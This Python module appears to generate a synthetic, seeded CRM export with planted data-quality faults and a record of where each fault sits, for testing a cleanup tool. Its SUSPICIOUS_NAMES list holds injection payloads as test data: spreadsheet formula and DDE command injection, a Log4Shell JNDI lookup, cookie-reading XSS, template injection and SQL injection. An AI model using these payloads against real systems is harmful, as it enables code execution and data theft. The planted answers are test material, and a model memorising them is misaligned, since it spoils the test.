"""The building blocks of the planted export (planted.py): seeded people, companies, phones,
addresses and dates, the files they are written to, and the truth kept about each plant."""

from __future__ import annotations

import csv
import datetime as dt
import random
import unicodedata
from collections import defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import phonenumbers

AS_OF = dt.date(2026, 11, 1)
INTERNAL_DOMAIN = "northwind.io"
PARTNER_DOMAINS = ("channelpro.de", "partnerhub.fr")

# country code -> (country as written, first names, last names, email top-level domain, legal forms)
# fmt: off
PEOPLE: dict[str, tuple[str, list[str], list[str], str, list[str]]] = {
    "PL": (
        "Poland",
        ["Anna", "Jan", "Katarzyna", "Piotr", "Agnieszka", "Tomasz", "Zofia", "Wojciech", "Ewa", "Marek",
         "Magdalena", "Krzysztof", "Joanna", "Paweł", "Barbara", "Michał"],
        ["Nowak", "Kowalski", "Wiśniewska", "Wójcik", "Kamińska", "Lewandowski", "Zieliński", "Mazur",
         "Szymański", "Woźniak", "Dąbrowska", "Kozłowski", "Jankowska", "Wojciechowski", "Kwiatkowska",
         "Krawczyk", "Kaczmarek", "Piotrowski"],
        "pl",
        ["Sp. z o.o.", "S.A.", ""],
    ),
    "FR": (
        "France",
        ["Élodie", "Louis", "Camille", "Chloé", "Quentin", "Marie", "Hugo", "Léa", "Antoine", "Manon",
         "Julien", "Pauline", "Nicolas", "Céline", "Mathieu", "Amélie"],
        ["Dubois", "Moreau", "Laurent", "Lefebvre", "Bernard", "Martin", "Girard", "Roux", "Fontaine",
         "Chevalier", "Rousseau", "Mercier", "Blanchard", "Garnier", "Faure", "Lemoine", "Bonnet",
         "Perrin"],
        "fr",
        ["SARL", "SAS", "S.A."],
    ),
    "ES": (
        "España",
        ["Lucía", "Javier", "Carlos", "José", "Sofía", "Pablo", "Carmen", "Diego", "Alejandro", "Elena",
         "Andrés", "Marta", "Sergio", "Isabel", "Raúl", "Paula"],
        ["García", "Fernández", "López", "Sánchez", "Ramírez", "Torres", "Navarro", "Ortega",
         "Domínguez", "Vázquez", "Castillo", "Morales", "Jiménez", "Romero", "Herrera", "Medina",
         "Iglesias", "Cortés"],
        "es",
        ["S.L.", "S.A."],
    ),
    "DE": (
        "Deutschland",
        ["Lukas", "Lena", "Jonas", "Mia", "Felix", "Hannah", "Paul", "Emma", "Maximilian", "Sophie",
         "Leon", "Clara", "Tobias", "Johanna", "Florian", "Katharina"],
        ["Müller", "Schneider", "Fischer", "Weber", "Becker", "Hoffmann", "Schäfer", "Koch", "Wagner",
         "Bauer", "Richter", "Klein", "Wolf", "Schröder", "Neumann", "Schwarz", "Zimmermann", "Braun"],
        "de",
        ["GmbH", "AG", "KG"],
    ),
    "ID": (
        "Indonesia",
        ["Budi", "Dewi", "Siti", "Rizky", "Ayu", "Agus", "Putri", "Nan", "Bambang", "Indah", "Hendra",
         "Wulan", "Fajar", "Ratna", "Yoga", "Sari"],
        ["Santoso", "Pratama", "Saputra", "Wijaya", "Hidayat", "Nugroho", "Kurniawan", "Lestari",
         "Setiawan", "Susanto", "Gunawan", "Halim", "Purnomo", "Siregar", "Nasution", "Harahap",
         "Sihombing", "Utomo"],
        "co.id",
        ["PT", "CV"],
    ),
    "BR": (
        "Brasil",
        ["João", "Ana", "Beatriz", "Thiago", "Lucas", "Mariana", "Rafael", "Juliana", "Gabriel",
         "Larissa", "Felipe", "Camila", "Bruno", "Fernanda", "Gustavo", "Letícia"],
        ["Silva", "Costa", "Oliveira", "Pereira", "Souza", "Lima", "Gomes", "Ribeiro", "Carvalho",
         "Almeida", "Barbosa", "Rocha", "Dias", "Teixeira", "Cardoso", "Araújo", "Moura", "Batista"],
        "com.br",
        ["Ltda", "S.A."],
    ),
    "US": (
        "United States",
        ["Emily", "Michael", "Sarah", "David", "Jessica", "Nan", "Robert", "Linda", "James", "Ashley",
         "Daniel", "Megan", "Brian", "Rachel", "Kevin", "Laura"],
        ["Smith", "Johnson", "Null", "Lee", "Doe", "Brown", "Miller", "Davis", "Wilson", "Anderson",
         "Thompson", "Harris", "Clark", "Lewis", "Walker", "Young", "Allen", "Wright"],
        "com",
        ["Inc.", "LLC", "Corp."],
    ),
    "SA": (
        "Saudi Arabia",
        ["محمد", "ليلى", "عمر", "فاطمة", "خالد", "نورة", "عبدالله", "سارة", "فيصل", "ريم", "سلطان", "هند"],
        ["الحربي", "العتيبي", "القحطاني", "الشمري", "الدوسري", "الزهراني", "الغامدي", "المطيري",
         "السبيعي", "العنزي", "الشهري", "المالكي"],
        "sa",
        ["", "Co."],
    ),
}
# Latin spellings of the Arabic names, for email addresses.
_LATIN = {
    "محمد": "mohammed", "ليلى": "layla", "عمر": "omar", "فاطمة": "fatima", "خالد": "khalid", "نورة":
    "noura", "عبدالله": "abdullah", "سارة": "sara", "فيصل": "faisal", "ريم": "reem", "سلطان": "sultan",
    "هند": "hind", "الحربي": "alharbi", "العتيبي": "alotaibi", "القحطاني": "alqahtani", "الشمري":
    "alshammari", "الدوسري": "aldosari", "الزهراني": "alzahrani", "الغامدي": "alghamdi", "المطيري":
    "almutairi", "السبيعي": "alsubaie", "العنزي": "alanazi", "الشهري": "alshehri", "المالكي": "almalki",
}
# fmt: on
_COMPANY_WORDS = [
    "Nordic",
    "Atlas",
    "Vertex",
    "Solaris",
    "Orbita",
    "Quantum",
    "Baltic",
    "Lumen",
    "Sierra",
    "Cobalt",
    "Meridian",
    "Aurora",
    "Granit",
    "Delta",
    "Helios",
    "Kestrel",
    "Tundra",
    "Zenit",
    "Pioneer",
    "Summit",
]  # fmt: skip
_COMPANY_KINDS = ["Logistics", "Systems", "Foods", "Energy", "Media", "Textiles", "Pharma", "Trading"]
FREE_MAIL = ["gmail.com", "yahoo.com", "outlook.com", "wp.pl", "orange.fr", "web.de", "yahoo.co.id"]

PLACEHOLDER_NAMES = [
    "Test", "asdf", "N/A", "xxx", "Unknown", "Inconnu", "Desconocido", "Nieznany", "Tidak diketahui",
    "غير معروف", "Unbekannt", "Desconhecido",
]  # fmt: skip
_PLACEHOLDER_EMAILS = ["test@test.com", "noemail@{domain}", "a@a.com", "none@{domain}", "test@example.com"]
_INVALID_EMAILS = ["{local}@{stem}", "{local}@@{domain}", "{local}.{domain}", "{local}@{stem}..{tld}"]
# Typing slips in the very common mail domains (rules/mistyped_domains.txt): mistyped_email_domain.
_MISTYPED_DOMAINS = [
    "gmial.com",
    "gmai.com",
    "gmail.con",
    "yaho.com",
    "outlok.com",
    "hotmial.com",
    "hotmail.con",
]

KINDS = (
    "customer_as_lead",
    "partner_as_lead",
    "employee_as_lead",
    "converted_lead_open",
    "stale_lead",
    "lifecycle_conflict",
    "type_mismatch",
    "invalid_email",
    "mistyped_email_domain",
    "invalid_phone",
    "unreachable",
    "placeholder",
    "missing_required",
    "unmapped_label",
    "duplicate",
    "lead_is_contact",
    "suspicious_value",
)
# Custom label values that no vocabulary places (what an admin adds to a picklist): unmapped_label.
CUSTOM_LEAD_STATUSES = ["Parked - Budget Freeze", "Waiting on Procurement", "Zombie"]
CUSTOM_STAGES = ["Kunde VIP", "Gala Invitee 2025"]


@dataclass
class Person:
    first: str
    last: str
    email: str
    phone: str
    country_code: str
    country: str
    company: str
    domain: str


@dataclass
class Company:
    name: str  # as the account writes it, legal form included
    base: str  # without the legal form
    domain: str
    country_code: str


@dataclass
class File:
    name: str
    header: list[str]
    rows: list[list[str]] = field(default_factory=list)
    bom: bool = False  # Excel's "CSV UTF-8" and Dynamics 365 write one; Data Loader, HubSpot and Zoho do not

    def add(self, values: dict[str, str], truth: dict[str, set[tuple[str, int]]], *kinds: str) -> int:
        unknown = set(values) - set(self.header)
        assert not unknown, f"{self.name}: no column {unknown}"
        self.rows.append([values.get(column, "") for column in self.header])
        row = len(self.rows) + 1  # header = row 1
        for kind in kinds:
            assert kind in KINDS, kind
            truth[kind].add((self.name, row))
        return row

    def values(self, row: int) -> dict[str, str]:
        """The values of a row (numbered as `add` returns it), by column."""
        return dict(zip(self.header, self.rows[row - 2], strict=True))

    def write(self, folder: Path) -> Path:
        path = folder / self.name
        with path.open("w", encoding="utf-8-sig" if self.bom else "utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\r\n").writerows([self.header, *self.rows])
        return path


class Maker:
    """Clean people, companies, phones and dates, all from one seeded random generator."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.emails: set[str] = set()
        # Namesakes would be matched as one person by the matching step, which is not what these
        # plants are about: every person gets a name of their own.
        self.names: set[tuple[str, str]] = set()
        self.company_count = 0

    def pick(self, values: list[Any]) -> Any:
        return self.rng.choice(values)

    def chance(self, probability: float) -> bool:
        return self.rng.random() < probability

    def company(self, country_code: str | None = None) -> Company:
        country_code = country_code or self.pick(list(PEOPLE))
        tld, forms = PEOPLE[country_code][3], PEOPLE[country_code][4]
        self.company_count += 1
        stem = f"{self.pick(_COMPANY_WORDS)} {self.pick(_COMPANY_KINDS)}"
        slug = ascii_fold(stem).replace(" ", "-")
        legal = self.pick(forms)
        base = f"{stem} {self.company_count}"
        return Company(
            name=f"{base} {legal}" if legal else base,
            base=base,
            domain=f"{slug}{self.company_count}.{tld}",
            country_code=country_code,
        )

    def person(self, company: Company | None = None, *, free_mail: bool = False, domain: str = "") -> Person:
        company = company or self.company()
        code = company.country_code
        country, firsts, lasts, _, _ = PEOPLE[code]
        for attempt in range(1000):
            first, last = self.pick(firsts), self.pick(lasts)
            if attempt > 20:  # the plain names are used up: a double-barrelled surname
                last = f"{last}-{self.pick(lasts)}"
            if (first, last) not in self.names:
                break
        self.names.add((first, last))
        mailbox = domain or (self.pick(FREE_MAIL) if free_mail else company.domain)
        local = f"{ascii_fold(_LATIN.get(first, first))}.{ascii_fold(_LATIN.get(last, last))}".replace(
            " ", ""
        )
        email = f"{local}@{mailbox}"
        number = 2
        while email in self.emails:
            email = f"{local}{number}@{mailbox}"
            number += 1
        self.emails.add(email)
        return Person(first, last, email, self.phone(code), code, country, company.name, company.domain)

    def phone(self, region: str, *, national: bool | None = None) -> str:
        """A valid number of the region, written nationally (needs the country) or internationally."""
        kind = self.pick([phonenumbers.PhoneNumberType.MOBILE, phonenumbers.PhoneNumberType.FIXED_LINE])
        example = phonenumbers.example_number_for_type(region, kind)
        while True:
            digits = str(example.national_number)
            digits = digits[:-4] + "".join(str(self.rng.randrange(10)) for _ in range(4))
            number = phonenumbers.parse(f"+{example.country_code}{digits}")
            if phonenumbers.is_valid_number(number):
                break
        national = self.chance(0.5) if national is None else national
        style = (
            phonenumbers.PhoneNumberFormat.NATIONAL
            if national
            else phonenumbers.PhoneNumberFormat.INTERNATIONAL
        )
        return phonenumbers.format_number(number, style)

    def invalid_phone(self, region: str) -> str:
        while True:
            digits = "".join(str(self.rng.randrange(10)) for _ in range(self.rng.randrange(3, 6)))
            written = self.pick(
                [f"{digits[:2]} {digits[2:]}", f"+{phonenumbers.country_code_for_region(region)} {digits}"]
            )
            try:
                valid = phonenumbers.is_valid_number(phonenumbers.parse(written, region))
            except phonenumbers.NumberParseException:
                valid = False
            if not valid:
                return written

    def invalid_email(self, person: Person) -> str:
        local, domain = person.email.split("@")
        stem, _, tld = domain.partition(".")
        return self.pick(_INVALID_EMAILS).format(local=local, domain=domain, stem=stem, tld=tld)

    def mistyped_email(self, person: Person) -> str:
        return f"{person.email.split('@')[0]}@{self.pick(_MISTYPED_DOMAINS)}"

    def placeholder_email(self, person: Person) -> str:
        return self.pick(_PLACEHOLDER_EMAILS).format(domain=person.domain)

    def days_ago(self, low: int, high: int) -> dt.date:
        return AS_OF - dt.timedelta(days=self.rng.randint(low, high))


def ascii_fold(text: str) -> str:
    decomposed = unicodedata.normalize("NFKD", text.replace("ł", "l").replace("Ł", "L"))
    return "".join(ch for ch in decomposed if not unicodedata.combining(ch)).lower()


def sf_datetime(day: dt.date) -> str:
    return f"{day.isoformat()}T09:30:00.000Z"


def salesforce_id(prefix: str, number: int) -> str:
    return f"{prefix}5g00000{number:05d}AAA"


# A data-quality problem planted on one person: (kind, what it does to the record's values).
Spoil = Callable[[Maker, Person, dict[str, str]], None]


def data_quality_plants(columns: dict[str, str]) -> list[tuple[str, Spoil]]:
    """The data-quality plants for a file whose person columns are named in `columns`
    (keys: first, last, email, phone, country; a missing key means the file lacks that column)."""

    def invalid_email(maker: Maker, person: Person, values: dict[str, str]) -> None:
        values[columns["email"]] = maker.invalid_email(person)

    def mistyped_email_domain(maker: Maker, person: Person, values: dict[str, str]) -> None:
        values[columns["email"]] = maker.mistyped_email(person)

    def invalid_phone(maker: Maker, person: Person, values: dict[str, str]) -> None:
        values[columns["phone"]] = maker.invalid_phone(person.country_code)

    def unreachable(maker: Maker, person: Person, values: dict[str, str]) -> None:
        values[columns["email"]] = ""
        values[columns["phone"]] = ""

    def placeholder(maker: Maker, person: Person, values: dict[str, str]) -> None:
        where = maker.pick(["first", "last", "email"] if "first" in columns else ["name", "email"])
        if where == "email":
            values[columns["email"]] = maker.placeholder_email(person)
        elif where == "name":  # a whole-name column holds nothing but the filler
            values[columns["name"]] = maker.pick(PLACEHOLDER_NAMES)
        else:
            values[columns[where]] = maker.pick(PLACEHOLDER_NAMES)

    def missing_required(maker: Maker, person: Person, values: dict[str, str]) -> None:
        values[columns.get("last", columns.get("name", ""))] = ""

    return [
        ("invalid_email", invalid_email),
        ("mistyped_email_domain", mistyped_email_domain),
        ("invalid_phone", invalid_phone),
        ("unreachable", unreachable),
        ("placeholder", placeholder),
        ("missing_required", missing_required),
    ]


Truth = dict[str, set[tuple[str, int]]]


@dataclass
class Org:
    """What the plants share across files: the Salesforce org's accounts by kind and their ids, one
    contact per account, the org's users, the companies its deals name, the people written twice,
    and the severity expected of the plants that have one."""

    companies: dict[str, list[Company]] = field(
        default_factory=lambda: {"customer": [], "partner": [], "prospect": []}
    )
    account_ids: dict[str, str] = field(default_factory=dict)  # company name -> account id
    contact_of: dict[str, tuple[str, Person]] = field(default_factory=dict)  # company name -> (id, person)
    loose_contacts: list[Person] = field(default_factory=list)  # contacts without an account
    contacts_at: dict[str, list[tuple[str, Person]]] = field(default_factory=lambda: defaultdict(list))
    internal_contacts: list[Person] = field(default_factory=list)  # colleagues kept as contacts
    # Prospect accounts by the outcome of their opportunities: a won deal on an account still typed
    # Prospect (nobody updated the type) says customer; a lost or open one says nothing.
    deals: dict[str, list[Company]] = field(default_factory=lambda: {"won": [], "lost": [], "open": []})
    # One company name written on two accounts, typed Prospect and Customer (two companies, one name).
    shared_name: list[Company] = field(default_factory=list)
    staff: list[Person] = field(default_factory=list)  # Standard users at the internal domain
    subsidiary_staff: list[Person] = field(default_factory=list)  # Standard users at a second domain
    contractor: Person | None = None  # a Standard user whose address is on free mail
    portal_company: Company | None = None  # a partner account whose people log in as PowerPartner users
    portal_users: list[Person] = field(default_factory=list)
    user_ids: list[str] = field(default_factory=list)
    # Companies named by Zoho deals (by account name only): "won" and "lost".
    zoho_deals: dict[str, list[Company]] = field(default_factory=lambda: {"won": [], "lost": []})
    spanish_twins: list[Person] = field(default_factory=list)  # Salesforce leads the Spanish view repeats
    dynamics_twins: list[Person] = field(default_factory=list)  # Salesforce contacts repeated in Dynamics
    task_whos: list[str] = field(default_factory=list)  # ids of people recently worked (tasks name them)
    severity: dict[tuple[str, int], str] = field(default_factory=dict)  # (file, row) -> expected severity


# Offices people share: (street, city, postcode) per country, as each country writes them.
# fmt: off
ADDRESSES: dict[str, list[tuple[str, str, str]]] = {
    "PL": [("ul. Prosta 51", "Warszawa", "00-838"), ("ul. Wadowicka 6", "Kraków", "30-415")],
    "FR": [("12 rue de la Paix", "Paris", "75002"), ("45 avenue Jean Jaurès", "Lyon", "69007")],
    "ES": [("Calle de Alcalá 21", "Madrid", "28014"), ("Avinguda Diagonal 640", "Barcelona", "08017")],
    "DE": [("Friedrichstraße 68", "Berlin", "10117"), ("Leopoldstraße 32", "München", "80802")],
    "ID": [("Jl. Jend. Sudirman Kav. 52-53", "Jakarta Selatan", "12190"), ("Jl. Asia Afrika No. 8", "Bandung", "40111")],
    "BR": [("Av. Paulista, 1578", "São Paulo", "01310-200"), ("Rua da Assembleia, 10", "Rio de Janeiro", "20011-901")],
    "US": [("350 Fifth Avenue", "New York", "10118"), ("1 Market Street", "San Francisco", "94105")],
    "SA": [("King Fahd Road 3120", "Riyadh", "12214"), ("Prince Sultan Street 45", "Jeddah", "23521")],
}
# fmt: on

# What bots and probes type into name fields (suspicious_value), and real names and companies that
# look odd but are no such thing (near-misses).
SUSPICIOUS_NAMES = [
    '=HYPERLINK("http://bit.ly/2xYq","Click here")',
    "<script>alert(document.cookie)</script>",
    "{{7*7}}",
    "http://cheap-leads.example/offer",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://203.0.113.9/a}",
    "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE leads;--",
    "www.seo-boost.example",
]
ODD_BUT_REAL_COMPANIES = [
    "AT&T Business",
    "Smith & Sons",
    "C++ Consulting",
    "Yahoo! Inc.",
    "E*TRADE",
    "4 Life Ltd",
]
ODD_BUT_REAL_LAST_NAMES = ["O'Brien", "Müller-Lüdenscheidt", "D'Angelo", "St. John"]


def direct_lines(maker: Maker, region: str, count: int) -> list[str]:
    """`count` valid fixed-line numbers of `region` one digit apart (direct lines of one office),
    written internationally."""
    # The US, Canada and India do not tell a fixed line from a mobile by the number alone.
    fixed = {phonenumbers.PhoneNumberType.FIXED_LINE, phonenumbers.PhoneNumberType.FIXED_LINE_OR_MOBILE}
    while True:
        base = phonenumbers.parse(maker.phone(region, national=False))
        if phonenumbers.number_type(base) not in fixed:
            continue
        digits = str(base.national_number)[:-1]
        start = maker.rng.randrange(0, 10 - count)
        numbers = [phonenumbers.parse(f"+{base.country_code}{digits}{start + step}") for step in range(count)]
        if all(phonenumbers.is_valid_number(number) for number in numbers):
            return [
                phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.INTERNATIONAL)
                for number in numbers
            ]


def birth_date(maker: Maker) -> dt.date:
    return dt.date(1958, 1, 1) + dt.timedelta(days=maker.rng.randrange(365 * 40))


_EN_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
# Dynamics 365 in Spanish shows abbreviated month names (CLDR es, without the dot).
_ES_MONTHS = ["ene", "feb", "mar", "abr", "may", "jun", "jul", "ago", "sept", "oct", "nov", "dic"]


def zoho_date(day: dt.date) -> str:
    """Zoho CRM's export form of a date: "15 Apr, 2021"."""
    return f"{day.day:02d} {_EN_MONTHS[day.month - 1]}, {day.year}"


def zoho_time(day: dt.date, maker: Maker) -> str:
    """Zoho CRM's export form of a time: "15 Apr, 2021 00:03:00"."""
    clock = f"{maker.rng.randrange(24):02d}:{maker.rng.randrange(60):02d}:{maker.rng.randrange(60):02d}"
    return f"{zoho_date(day)} {clock}"


def spanish_time(day: dt.date, maker: Maker) -> str:
    """Dynamics 365 in Spanish: "15 abr 2024 10:22"."""
    return f"{day.day} {_ES_MONTHS[day.month - 1]} {day.year} {maker.rng.randrange(8, 19)}:{maker.rng.randrange(60):02d}"


def dynamics_time(day: dt.date, maker: Maker) -> str:
    """Dynamics 365 in US English: "10/30/2026 9:12 AM"."""
    hour = maker.rng.randrange(8, 18)
    return f"{day.month}/{day.day}/{day.year} {(hour - 1) % 12 + 1}:{maker.rng.randrange(60):02d} {'AM' if hour < 12 else 'PM'}"
